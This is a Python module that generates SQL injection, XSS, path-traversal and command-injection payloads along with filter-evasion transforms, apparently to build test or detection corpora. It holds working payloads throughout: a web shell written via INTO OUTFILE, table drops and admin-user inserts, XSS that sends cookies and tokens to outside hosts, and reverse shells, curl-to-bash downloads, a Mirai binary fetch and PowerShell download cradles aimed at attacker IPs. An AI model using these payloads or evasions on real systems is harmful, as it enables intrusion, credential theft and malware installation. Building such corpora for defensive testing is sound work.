"""Attack payloads and their evasions: SQL injection, XSS, path traversal, command injection.

Payloads follow public lists (PayloadsAllTheThings, sqlmap techniques and
tamper scripts, the PortSwigger XSS cheat sheet, OWASP testing guide). Each
generator returns (value, evasion, forced_wire_mode_or_None).
"""

import re

SQLI = [
    "' OR '1'='1", "' OR 1=1-- -", "\" OR \"\"=\"", "' OR 'a'='a", "admin'-- ", "admin' #", "admin'/*",
    "') OR ('1'='1", "')) OR (('1'='1", "1' ORDER BY 1-- -", "1' ORDER BY 5-- -", "1 ORDER BY 3",
    "1 UNION SELECT NULL,NULL,NULL-- -", "' UNION SELECT username,password FROM users-- -",
    "' UNION ALL SELECT NULL,version(),NULL-- -", "-1 UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()-- -",
    "0 UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users'",
    "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1", "1' AND '1'='2", "1' AND SLEEP(5)-- -", "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
    "1; WAITFOR DELAY '0:0:5'--", "'; EXEC xp_cmdshell('whoami')--", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "1' AND updatexml(1,concat(0x7e,(SELECT user())),1)-- -",
    "1 AND (SELECT 5071 FROM(SELECT COUNT(*),CONCAT(0x716a7a7171,(SELECT (ELT(5071=5071,1))),0x7170706271,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    "1' AND 3578=CAST((CHR(113)||CHR(107)||CHR(106))||(SELECT (CASE WHEN (3578=3578) THEN 1 ELSE 0 END))::text AS NUMERIC)-- xyz",
    "1;SELECT pg_sleep(5)--", "1' || pg_sleep(5)--", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
    "' OR 1=1 LIMIT 1-- -", "1) AND 8124=8124 AND (5040=5040", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "'; DROP TABLE users;--", "1'; INSERT INTO users (username,password,role) VALUES ('svc','x','admin');--", "' UNION SELECT @@version,NULL#",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)", "' UNION SELECT NULL,banner FROM v$version--", "1' and benchmark(5000000,md5(1))#",
    "'||(SELECT '' FROM dual WHERE 1=1)||'", "1' AND SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1)='a",
    "x' AND 1=(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual)--", "1 OR sleep(5)#",
    "' OR 'x'='x", "1' GROUP BY 1,2,3-- -", "' HAVING 1=1--", "' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -",
    "' INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2263225d293b3f3e-- -",
    "' UNION SELECT sql,NULL FROM sqlite_master-- -", "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z", "if(now()=sysdate(),sleep(5),0)",
    "-1' OR 3*2*1=6 AND 000592=000592-- ", "1 WAITFOR DELAY '0:0:5'", "'; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1' AND 1=CAST((SELECT current_user) AS int)--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)", "1' OR '1'='1'/*",
    "' OR username LIKE '%admin%'-- -", "1 UNION SELECT table_name,NULL FROM all_tables--", "1' AND (SELECT COUNT(*) FROM users)>0-- -",
    "'+(SELECT 0 WHERE 1=1 AND SLEEP(5))+'", "1 AND 5=5 UNION SELECT user,password FROM mysql.user-- -",
    "admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'-- -", "\" OR 1=1-- -", "1\" AND \"1\"=\"1",
    "' AND EXISTS(SELECT * FROM users WHERE username='admin' AND LENGTH(password)>8)-- -",
    "(SELECT CHAR(113)+CHAR(106)+CHAR(122)+CHAR(118)+CHAR(113))", "1;DECLARE @q VARCHAR(99);SET @q='\\\\x.oastify.com\\a';EXEC master.dbo.xp_dirtree @q;--",
    "' OR 1 IN (SELECT @@version)-- -", "1 AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64",
    "name,(SELECT CASE WHEN (1=1) THEN name ELSE price END)", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN price ELSE name END)",
    "id DESC,(SELECT SLEEP(5))", "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/", "1)) OR 1=1-- -", "' OR ''='", "1' OR '1'='1' LIMIT 0,1;#", "' AND 1=0 UNION SELECT NULL,table_name FROM information_schema.tables-- -",
]

SQL_KEYWORDS = frozenset("""SELECT UNION FROM WHERE AND OR ORDER BY SLEEP NULL ALL INFORMATION_SCHEMA TABLES GROUP CONCAT
WAITFOR DELAY EXEC INSERT INTO VALUES DROP TABLE CASE WHEN THEN ELSE END LIMIT HAVING BENCHMARK EXTRACTVALUE UPDATEXML
CAST AS LIKE VERSION DATABASE USER SUBSTRING ASCII XOR IF NOW SYSDATE LOAD_FILE OUTFILE PG_SLEEP COUNT IN EXISTS
TABLE_NAME COLUMN_NAME COLUMNS SCHEMATA DUAL CHAR RLIKE FLOOR RAND ELT ORD MID IFNULL LENGTH DESC DECLARE SET""".split())

_SQL_TAIL = re.compile(r"(--[ +\-a-z]*|#|/\*)$")


def _split_tail(p):
    m = _SQL_TAIL.search(p)
    return (p[:m.start()], p[m.start():]) if m else (p, "")


def _case_word(w, rng):
    out = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in w)
    return out if out not in (w.upper(), w.lower()) else w[0].lower() + w[1:].upper()


def sql_mixed_case(p, rng):
    return re.sub(r"[A-Za-z_]+", lambda m: _case_word(m.group(0), rng) if m.group(0).upper() in SQL_KEYWORDS else m.group(0), p)


def sql_comment_space(p, rng):
    body, tail = _split_tail(p)
    if " " not in body:
        return None
    fill = rng.choice(["/**/", "/**/", "/*x*/", "/*!*/", "/*%s*/" % rng.choice(["foo", "1337", "bypass"])])
    if tail.startswith("--"):
        tail = rng.choice(["#", "--+", "-- -"]).replace(" ", fill if "-" in tail else " ")
    return body.replace(" ", fill) + tail


def sql_alt_whitespace(p, rng):
    body, tail = _split_tail(p)
    if " " not in body:
        return None
    ws = rng.choice(["\t", "\n", "\r\n", "\x0b", "\x0c", "\n\t"])
    return body.replace(" ", ws) + tail


def sql_comment_newline(p, rng):
    """sqlmap space2hash / space2dash: a line comment plus newline stands for a space."""
    body, tail = _split_tail(p)
    if " " not in body:
        return None
    marker = rng.choice(["#", "--", "#" + rand_word(rng), "--" + rand_word(rng)])
    return body.replace(" ", marker + "\n") + tail


def rand_word(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(3, 9)))


def sql_versioned(p, rng):
    n = [0]

    def rep(m):
        if m.group(0).upper() in ("UNION", "SELECT", "AND", "OR", "SLEEP", "FROM", "CONCAT", "ORDER"):
            n[0] += 1
            return "/*!%s%s*/" % (rng.choice(["", "50000", "12345", "44444"]), m.group(0))
        return m.group(0)
    out = re.sub(r"[A-Za-z_]+", rep, p)
    return out if n[0] else None


def sql_symbols(p, rng):
    out = p.replace(" OR ", " || ").replace(" AND ", " && ")
    return out if out != p else None


def sql_equal_like(p, rng):
    out = re.sub(r"'1'='1", "'1' LIKE '1", p)
    out = re.sub(r"'a'='a", "'a' LIKE 'a", out)
    out = re.sub(r"\b1=1\b", "1 LIKE 1", out)
    return out if out != p else None


def sql_null_byte(p, rng):
    return "\x00" + p


def sql_no_space(p, rng):
    out = p.replace("' OR '", "'OR'").replace("' AND '", "'AND'").replace(" OR 1=1", "||1=1")
    out = re.sub(r"' (OR|AND|UNION) ", lambda m: "'%s(" % m.group(1), out) if out == p else out
    if out == p:
        return None
    if out.count("(") > out.count(")") and not out.endswith(")"):
        body, tail = _split_tail(out)
        out = body + ")" * (out.count("(") - out.count(")")) + tail
    return out


def sql_scientific(p, rng):
    out = re.sub(r"\b(\d+) (UNION|OR|AND)\b", lambda m: m.group(1) + rng.choice(["e0", ".0", ".e0"]) + m.group(2), p, count=1)
    return out if out != p else None


SQLI_EVASIONS = [("none", None, 30), ("mixed_case", sql_mixed_case, 10), ("sql_comment", sql_comment_space, 10),
                 ("alt_whitespace", sql_alt_whitespace, 8), ("comment_newline", sql_comment_newline, 4), ("versioned_comment", sql_versioned, 6),
                 ("symbol_operators", sql_symbols, 4), ("equal_to_like", sql_equal_like, 3), ("null_byte", sql_null_byte, 3),
                 ("no_space", sql_no_space, 4), ("scientific_notation", sql_scientific, 2)]

XSS = [
    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>", "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(document.domain)>", "\"><img src=x onerror=prompt(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(1)", "javascript:alert(document.cookie)//", "'-alert(1)-'",
    "\";alert(1);//", "</script><script>alert(1)</script>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<img src=1 onerror=fetch('https://x55.is/c?'+document.cookie)>", "<script src=https://xss.report/c/shopx></script>",
    "\"><script src=//bxss.me/t/xss.js></script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<svg><script>alert&#40;1&#41;</script>", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<x onclick=alert(1)>click",
    "<form><button formaction=javascript:alert(1)>X</button></form>", "<embed src=\"javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">", "{{constructor.constructor('alert(1)')()}}",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>", "<body onpageshow=alert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>", "<img src=x onerror=top[`al`+`ert`](1)>", "<script>eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')</script>",
    "<img src=x onerror=alert`1`>", "<svg onload=setTimeout('alert(1)')>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "\"><svg onload=confirm(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img/src/onerror=alert(1)>", "<svg><set attributeName=onmouseover to=alert(1)>", "<div onpointerover=\"alert(1)\">hover</div>",
    "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"alert(1)\"></div>",
    "<script>fetch('//x.oastify.com/'+localStorage.getItem('token'))</script>", "<img src=x onerror=\"document.location='https://evil.com/?c='+document.cookie\">",
    "<svg onload=eval(location.hash.slice(1))>", "<iframe onload=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "\"-confirm`1`-\"", "</title><script>alert(1)</script>", "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>", "<a id=x tabindex=1 onfocusin=alert(1)></a>", "\"><iframe src=//x55.is/f></iframe>",
    "<keygen autofocus onfocus=alert(1)>", "[docs](javascript:alert(document.cookie))", "![x](x\" onerror=\"alert(1))",
    "<a href=\"javascript&colon;alert(1)\">help</a>", "<img src=x onerror=import('//x55.is/x.js')>",
]


def xss_mixed_case(p, rng):
    def rep(m):
        w = m.group(0)
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in w)
    # Tag names, handler attributes and URL schemes are case-insensitive; JS identifiers are not.
    out = re.sub(r"(?i)(?<=<)/?[a-z]+|\bon[a-z]+(?==)|javascript(?=:)", rep, p)
    return out if out != p else None


def _entities(s, rng):
    style = rng.choice(["dec", "hex", "hexpad", "named"])
    named = {"(": "&lpar;", ")": "&rpar;", ":": "&colon;", "'": "&apos;", ".": "&period;"}
    out = []
    for c in s:
        if style == "dec":
            out.append("&#%d;" % ord(c))
        elif style == "hex":
            out.append("&#x%x;" % ord(c))
        elif style == "hexpad":
            out.append("&#x%06x" % ord(c) + (";" if rng.random() < 0.5 else ""))
        else:
            out.append(named.get(c, c))
    return "".join(out)


def xss_html_entities(p, rng):
    m = re.search(r"(on[a-z]+=)(\"?)([^\">]+)", p)
    if m and "javascript" not in p.lower():
        val = _entities(m.group(3), rng)
        if not m.group(2) and ";" in val:
            return p[:m.start(3)] + "\"" + val + "\"" + p[m.end(3):]
        return p[:m.start(3)] + val + p[m.end(3):]
    m = re.search(r"(?i)javascript:", p)
    if m and m.start() > 0:
        return p[:m.start()] + _entities(p[m.start():m.end()], rng) + p[m.end():]
    return None


def xss_js_escape(p, rng):
    if rng.random() < 0.5:
        out = p.replace("<", "\\x3c").replace(">", "\\x3e")
    else:
        out = p.replace("<", "\\u003c").replace(">", "\\u003e").replace("\"", "\\u0022")
    if out == p:
        out = p.replace("alert", "\\u0061lert").replace("confirm", "\\u0063onfirm")
    return out if out != p else None


def xss_whitespace(p, rng):
    ws = rng.choice(["/", "\t", "\n", "\x0c", "%09"])
    out = re.sub(r"(<[a-zA-Z]+) ", lambda m: m.group(1) + ws, p, count=1)
    out = re.sub(r"(?i)java(script:)", "java" + rng.choice(["\t", "\n", "&#x09;", "&Tab;"]) + r"\1", out)
    if out == p:
        return None
    return out.replace("%09", "\t") if ws == "%09" and rng.random() < 0.5 else out


def xss_rich_text(p, rng):
    """The payload inside otherwise ordinary editor HTML, as stored-XSS attempts arrive."""
    if not p.startswith("<"):
        return None
    pre = rng.choice(["<p>Great product, fast shipping!</p>", "<p>Hi <strong>team</strong>,</p><p>see below</p>", "<ul><li>size M</li></ul>",
                      "<p>Thanks!<br>", "<blockquote>Quote from the manual</blockquote>"])
    post = rng.choice(["", "</p>", "<p>Regards</p>", "<p>&nbsp;</p>"])
    return pre + p + post


def xss_null_byte(p, rng):
    if not p.startswith("<"):
        return None
    return "<\x00" + p[1:] if rng.random() < 0.3 else "\x00" + p


XSS_EVASIONS = [("none", None, 35), ("mixed_case", xss_mixed_case, 12), ("html_entities", xss_html_entities, 12),
                ("js_escape", xss_js_escape, 10), ("alt_whitespace", xss_whitespace, 8), ("null_byte", xss_null_byte, 3),
                ("rich_text_wrap", xss_rich_text, 8)]

LFI_UNIX = ["etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "proc/version",
            "var/log/nginx/access.log", "var/log/apache2/access.log", "root/.ssh/id_rsa", "home/ubuntu/.bash_history", "etc/nginx/nginx.conf",
            "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/issue", "root/.aws/credentials", "proc/self/fd/2", "etc/group"]
LFI_APP = [".env", "config/database.yml", "WEB-INF/web.xml", "app/etc/env.php", "wp-config.php", "config.php", ".git/config",
           "application.properties", "appsettings.json", "settings.py", "../conf/server.xml"]
LFI_WIN = ["windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "inetpub/wwwroot/web.config",
           "windows/system32/config/SAM", "Windows/Panther/Unattend.xml"]
LFI_WRAPPERS = [
    ("php://filter/convert.base64-encode/resource=index.php", "php_wrapper"), ("php://filter/read=string.rot13/resource=config.php", "php_wrapper"),
    ("php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd", "php_wrapper"), ("file:///etc/passwd", "file_scheme"),
    ("file:///c:/windows/win.ini", "file_scheme"), ("expect://id", "php_wrapper"), ("phar://./uploads/avatar.jpg/shell.php", "php_wrapper"),
    ("zip://uploads/x.zip%23shell.php", "php_wrapper"), ("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "php_wrapper"),
    ("/etc/passwd", "absolute_path"), ("/proc/self/environ", "absolute_path"), ("C:\\Windows\\win.ini", "absolute_path"),
    ("/var/www/images/../../../etc/passwd", "prefix_then_traversal"), ("images/../../../../../etc/passwd", "prefix_then_traversal"),
    ("/static/../../../../../../etc/shadow", "prefix_then_traversal"), ("\\\\attacker.example\\share\\x", "unc_path"),
]


def lfi_value(rng):
    """Returns (value, evasion, mode). Mode 'prewire' when the trick lives in the encoding."""
    r = rng.random()
    if r < 0.12:
        v, ev = rng.choice(LFI_WRAPPERS)
        return v, ev, ("prewire" if "%23" in v else None)
    win = r > 0.85
    target = rng.choice(LFI_WIN if win else (LFI_UNIX if rng.random() < 0.75 else LFI_APP))
    depth = rng.randrange(3, 10)
    tricks = [("none", 30), ("dotdot_semicolon", 6), ("dotdot_doubled", 8), ("dot_slash_pct", 10), ("double_encode", 8),
              ("overlong_utf8", 7), ("backslash", 8), ("unicode_u", 5), ("null_byte", 7), ("mixed_slashes", 5), ("fullwidth_utf8", 3)]
    trick = weighted(rng, tricks)
    sep = "\\" if win and trick == "none" and rng.random() < 0.5 else "/"
    tgt = target.replace("/", sep)
    if trick == "none":
        return (".." + sep) * depth + tgt, "none", None
    if trick == "dotdot_semicolon":
        return "..;/" * depth + tgt, trick, None
    if trick == "dotdot_doubled":
        return rng.choice(["....//", "....\\/", "..././"]) * depth + tgt, trick, None
    if trick == "backslash":
        return "..\\" * depth + target.replace("/", "\\"), trick, None
    if trick == "mixed_slashes":
        return "".join(rng.choice(["../", "..\\", "..\\/"]) for _ in range(depth)) + target, trick, None
    if trick == "null_byte":
        suffix = rng.choice([".png", ".jpg", ".html", ".pdf", ""])
        if rng.random() < 0.5:
            return "../" * depth + target + "\x00" + suffix, trick, None
        return "..%2f" * depth + target.replace("/", "%2f") + "%00" + suffix, trick, "prewire"
    unit, tslash = {
        "dot_slash_pct": (rng.choice(["%2e%2e%2f", "%2e%2e/", "..%2f", "%2E%2E%2F", ".%2e/", "%2e./"]), "%2f"),
        "double_encode": (rng.choice(["%252e%252e%252f", "..%252f", "%252e%252e/"]), "%252f"),
        "overlong_utf8": (rng.choice(["%c0%ae%c0%ae%c0%af", "..%c0%af", "..%c1%9c", "%c0%ae%c0%ae/", "..%e0%80%af"]), "/"),
        "unicode_u": (rng.choice(["%u002e%u002e%u2215", "..%u2215", "%u002e%u002e/", "..%u2216"]), "/"),
        "fullwidth_utf8": (rng.choice(["..%ef%bc%8f", "%ef%bc%8e%ef%bc%8e/"]), "/"),
    }[trick]
    slash = tslash if "/" not in unit[-1:] and rng.random() < 0.5 else "/"
    return unit * depth + target.replace("/", slash), trick, "prewire"


def weighted(rng, items):
    total = sum(w for _, w in items)
    x = rng.random() * total
    for name, w in items:
        x -= w
        if x < 0:
            return name
    return items[-1][0]


def weighted3(rng, items):
    total = sum(t[-1] for t in items)
    x = rng.random() * total
    for t in items:
        x -= t[-1]
        if x < 0:
            return t
    return items[-1]


OAST = ["x7k2p9.oastify.com", "c4h8q1z0.interact.sh", "d2f9kl.burpcollaborator.net", "abc123.oast.fun", "q9w8e7.dnslog.cn",
        "5tq1.requestrepo.com", "webhook.site/1f3a9c2e-7b1d-4c55-9a0e-2f6d4b8e1c77"]
ATTACKER_IPS = ["45.33.32.156", "185.220.101.34", "91.92.109.53", "103.145.13.20", "5.188.86.172", "162.243.10.151", "10.10.14.7"]

CMD_BASE = [
    "id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "sleep 10", "ping -c 10 127.0.0.1", "cat /etc/shadow", "echo vuln3r4ble",
    "curl http://{oast}/$(whoami)", "wget -qO- http://{ip}/x.sh | sh", "nc -e /bin/sh {ip} 4444", "bash -i >& /dev/tcp/{ip}/4444 0>&1",
    "nslookup $(whoami).{oast}", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} 4444 >/tmp/f",
    "python3 -c 'import os;os.system(\"id\")'", "perl -e 'system(\"id\")'", "php -r 'system(\"id\");'", "cat /proc/self/environ",
    "curl -s http://{ip}/b.sh|bash", "cd /tmp && wget http://{ip}/mirai.arm7 && chmod +x mirai.arm7 && ./mirai.arm7", "env", "ls -al /var/www",
    "busybox wget http://{ip}/bins.sh", "echo 'ssh-rsa AAAAB3NzaC1yc2E attacker' >> ~/.ssh/authorized_keys",
]
CMD_WIN = ["whoami /all", "type C:\\Windows\\win.ini", "ping -n 10 127.0.0.1", "net user", "dir C:\\", "ipconfig /all",
           "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')\"",
           "certutil -urlcache -f http://{ip}/a.exe %TEMP%\\a.exe", "nslookup %USERNAME%.{oast}"]
CMD_PREFIX = ["", "", "127.0.0.1", "8.8.8.8", "example.com", "report.pdf", "1", "test", "localhost", "invoice-2024.csv", "a"]


def _first_word_obf(cmd, rng, how):
    head, _, rest = cmd.partition(" ")
    if len(head) < 2 or not head.isalpha():
        return None
    if how == "quote_insertion":
        q = rng.choice(["'", '"'])
        i = rng.randrange(1, len(head))
        new = head[:i] + q + q + head[i:] if rng.random() < 0.5 else head[0] + q + head[1:-1] + q + head[-1] if len(head) > 2 else None
        if new is None:
            return None
        if rest and "/" in rest and rng.random() < 0.5:
            rest = rest.replace("passwd", "pa" + q + "ss" + q + "wd").replace("etc", "e" + q + "t" + q + "c")
    elif how == "backslash":
        new = "".join(c + ("\\" if rng.random() < 0.3 and k < len(head) - 1 else "") for k, c in enumerate(head))
        if "\\" not in new:
            new = head[0] + "\\" + head[1:]
    elif how == "dollar_at":
        i = rng.randrange(1, len(head))
        new = head[:i] + rng.choice(["$@", "${x}", "$()"]) + head[i:]
    elif how == "ansi_c_hex":
        new = "$'" + "".join("\\x%02x" % ord(c) for c in head) + "'"
    elif how == "caret":
        new = "^".join(head)
    else:
        return None
    return new + (" " + rest if rest else "")


def cmd_value(rng):
    win = rng.random() < 0.15
    cmd = rng.choice(CMD_WIN if win else CMD_BASE).replace("{oast}", rng.choice(OAST)).replace("{ip}", rng.choice(ATTACKER_IPS))
    ev = "none"
    if win:
        if rng.random() < 0.3:
            c2 = _first_word_obf(cmd, rng, "caret")
            if c2:
                cmd, ev = c2, "caret"
    else:
        how = weighted(rng, [("none", 35), ("quote_insertion", 10), ("backslash", 6), ("ifs", 10), ("brace_expansion", 5), ("wildcards", 6),
                              ("base64_pipe", 6), ("ansi_c_hex", 4), ("dollar_at", 4), ("var_concat", 3), ("path_substring", 3)])
        c2 = None
        if how in ("quote_insertion", "backslash", "dollar_at", "ansi_c_hex"):
            c2 = _first_word_obf(cmd, rng, how)
        elif how == "ifs" and " " in cmd:
            c2 = cmd.replace(" ", rng.choice(["${IFS}", "$IFS$9", "${IFS}", "\t"]))
        elif how == "brace_expansion" and cmd.count(" ") in (1, 2) and "|" not in cmd and ">" not in cmd:
            c2 = "{" + cmd.replace(" ", ",") + "}"
        elif how == "wildcards" and cmd in ("cat /etc/passwd", "cat /etc/shadow", "ls -la /", "uname -a", "id", "whoami"):
            c2 = {"cat /etc/passwd": rng.choice(["/???/c?t /???/p?ss??", "/bin/ca? /e??/pa??wd", "/???/??t /???/???s??"]),
                  "cat /etc/shadow": "/???/c?t /???/s?a?o?", "ls -la /": "/???/l? -la /", "uname -a": "/???/?nam? -a",
                  "id": "/???/?d", "whoami": "/???/??o?m?"}[cmd]
        elif how == "base64_pipe":
            import base64
            enc = base64.b64encode(cmd.encode()).decode()
            c2 = rng.choice(["echo %s|base64 -d|sh", "echo${IFS}%s|base64${IFS}-d|bash", "bash<<<$(base64 -d<<<%s)"]) % enc
        elif how == "var_concat" and cmd in ("cat /etc/passwd", "whoami", "id", "uname -a"):
            h = cmd.split(" ")[0]
            c2 = "a=%s;b=%s;$a$b%s" % (h[:len(h) // 2], h[len(h) // 2:], cmd[len(h):])
        elif how == "path_substring" and "/" in cmd:
            c2 = cmd.replace("/", "${PATH:0:1}")
        if c2:
            cmd, ev = c2, how
    sep = weighted(rng, [(";", 25), ("|", 12), ("||", 6), ("&&", 10), ("&", 6), ("\n", 10), ("`", 8), ("$(", 10), ("\r\n", 2)])
    prefix = rng.choice(CMD_PREFIX)
    if sep == "`":
        v = prefix + ("; " if prefix and rng.random() < 0.3 else "") + "`" + cmd + "`"
    elif sep == "$(":
        v = prefix + "$(" + cmd + ")"
    else:
        gap = "" if sep in ("\n", "\r\n") or rng.random() < 0.4 else " "
        v = prefix + ("" if not prefix or sep in ("\n", "\r\n") else rng.choice(["", " "])) + sep + gap + cmd
        if sep in (";", "&", "|") and rng.random() < 0.2:
            v += rng.choice([";", " #", " &", "|"])
    if sep in ("\n", "\r\n") and ev == "none":
        ev = "newline_separator"
    return v, ev, None
